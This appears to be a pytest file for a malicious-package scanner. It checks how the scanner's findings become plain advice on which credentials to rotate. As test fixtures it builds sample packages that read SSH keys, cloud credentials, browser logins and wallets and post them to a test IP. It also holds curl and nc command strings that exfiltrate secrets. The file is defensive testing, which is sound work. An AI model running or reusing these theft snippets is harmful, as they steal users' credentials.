from __future__ import annotations

from dataclasses import replace

import pytest

from pratique.aftercare.loss import ANYTHING, SECRETS, Loss, loss_of
from pratique.finding import Behaviour, Confidence, Finding, Severity
from pratique.screen import screen_bytes
from pratique.verdict import Verdict
from tests.aftercare.receipts import report_of, theft
from tests.support.distributions import make_wheel

_OPEN = "k = open(os.path.expanduser('~/{}'), 'rb').read()\n"


def of(*findings: Finding, verdict: Verdict = Verdict.MALICIOUS) -> Loss:
    """The loss by a bad file with these findings."""
    return loss_of(report_of(*findings, verdict=verdict), bad=True)


def words(loss: Loss) -> list[str]:
    """What was taken, in words."""
    return [one.what for one in loss.taken]


@pytest.mark.parametrize(
    ("code", "what", "rotate"),
    [
        ("k = dict(os.environ)\n", "environment variables", "secrets of CI jobs"),
        (_OPEN.format(".ssh/id_rsa"), "SSH keys", "new SSH keys"),
        (_OPEN.format(".aws/credentials"), "cloud, cluster", "access keys"),
        (_OPEN.format(".pypirc"), "publishing and repository", "tokens for publishing"),
        (_OPEN.format(".config/google-chrome/Default/Login Data"), "browser stores", "that the browser has saved"),
        (_OPEN.format(".bitcoin/wallet.dat"), "wallets", "new one"),
    ],
)
def test_what_the_engine_proves_is_told_in_plain_words(code: str, what: str, rotate: str) -> None:
    """From a package to advice: what its code sends is named, and so is what has to be done about it."""
    source = f"import os, requests\n{code}requests.post('http://198.51.100.3/', data={{'k': k}})\n"
    wheel = make_wheel("demo", "1.0", {"demo/__init__.py": source})
    loss = loss_of(screen_bytes(wheel.data, filename=wheel.filename), bad=True)
    told = next(one for one in loss.taken if one.what.startswith(what))
    assert rotate in told.rotate
    assert Behaviour.THEFT in loss.behaviours
    assert any("198.51.100.3" in sentence for sentence in loss.does)
    assert ANYTHING not in words(loss)


def test_each_sort_is_told_once_with_all_of_its_details() -> None:
    """Two ways to the same sort of secret are one line of advice, with both places."""
    loss = of(theft("secret: ssh keys (~/.ssh/a)", "variable: A_TOKEN"), theft("secret: ssh keys (~/.ssh/b)"))
    assert [(one.what, one.details) for one in loss.taken] == [
        ("SSH keys", ("~/.ssh/a", "~/.ssh/b")),
        ("named environment variables", ("A_TOKEN",)),
    ]


@pytest.mark.parametrize(
    ("finding", "what"),
    [
        (theft(code="curl -d @$HOME/.ssh/id_rsa http://203.0.113.9/"), "SSH keys"),
        (theft(code="env | curl -d @- http://203.0.113.9/"), "environment variables"),
        (theft(message="keeps the whole environment in a file"), "environment variables"),
        (theft(code="cat $X | nc 203.0.113.9 1"), SECRETS),
        (theft("network: http://169.254.169.254/latest/"), "cloud, cluster and container registry credentials"),
        (theft("secret: a new sort (x)"), "a new sort"),
    ],
)
def test_a_theft_always_names_something(finding: Finding, what: str) -> None:
    """Where no way is told the command speaks; a theft of which nothing is known is never silent."""
    assert words(of(finding)) == [what]


def test_code_from_elsewhere_takes_anything() -> None:
    """Whoever ran a second stage cannot stop at the secrets that were seen."""
    second = replace(theft(), behaviour=Behaviour.SECOND_STAGE, rule="second-stage")
    assert words(of(theft("environ: os.environ"), second)) == ["environment variables", ANYTHING]


def test_calling_home_is_not_anything() -> None:
    """Host and user names alone leave nothing to rotate."""
    (taken,) = of(theft("host: socket.gethostname", rule="beacon")).taken
    assert taken.rotate == ""


@pytest.mark.parametrize("verdict", [Verdict.ERROR, Verdict.SUSPICIOUS, Verdict.CLEAN])
def test_a_bad_file_that_shows_nothing_takes_anything(verdict: Verdict) -> None:
    """What nobody could read to its end, or what an advisory alone calls malware, is assumed to take all there is."""
    assert words(of(verdict=verdict)) == [ANYTHING]
    assert words(loss_of(None, bad=True)) == [ANYTHING]


def test_a_file_without_fault_takes_nothing() -> None:
    """An honest file gives nobody work: hints of no weight are no loss."""
    hint = replace(theft("environ: os.environ"), proven=False, confidence=Confidence.LOW, severity=Severity.HIGH)
    assert loss_of(report_of(hint, verdict=Verdict.CLEAN), bad=False) == Loss()
    assert loss_of(None, bad=False) == Loss()


def test_a_doubtful_theft_counts_once_the_file_is_bad() -> None:
    """What was no more than a hint names the secrets as soon as something else shows that the file is bad."""
    hint = replace(theft("environ: os.environ"), proven=False, confidence=Confidence.LOW, severity=Severity.HIGH)
    assert words(of(hint, verdict=Verdict.SUSPICIOUS)) == ["environment variables"]
